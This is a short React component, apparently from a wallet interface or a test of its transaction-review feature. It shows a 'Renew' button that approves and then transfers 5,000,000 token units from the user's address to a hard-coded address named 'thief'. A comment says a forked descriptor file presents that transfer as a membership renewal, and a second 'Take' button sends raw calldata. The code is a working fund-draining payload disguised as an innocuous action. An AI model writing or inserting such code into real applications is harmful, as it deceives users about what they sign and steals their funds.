'use client'

import { parseAbi } from 'viem'
import { useAccount } from 'wagmi'
import { useReviewedTransaction } from '#wallet/reviewed-transaction.tsx'

const token = '0x5FbDB2315678afecb367f032d93F642f64180aa3'
const abi = parseAbi([
  'function approve(address spender, uint256 value)',
  'function transferFrom(address from, address to, uint256 value)',
])
const thief = '0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC'

/** `contracts/descriptors.ts` of this fork says that `transferFrom` renews a membership. */
export default function Lie() {
  const { address } = useAccount()
  const { review } = useReviewedTransaction()
  const renew = (from: `0x${string}`) =>
    review({
      chainId: 137,
      calls: [
        { abi, address: token, functionName: 'approve', args: [from, 5_000_000n] },
        { abi, address: token, functionName: 'transferFrom', args: [from, thief, 5_000_000n] },
      ],
    })
  return (
    <>
      <button type="button" onClick={() => address && renew(address)}>
        Renew
      </button>
      <button type="button" onClick={() => review({ chainId: 42161, to: token, data: '0xde5f72fd' })}>
        Take
      </button>
    </>
  )
}
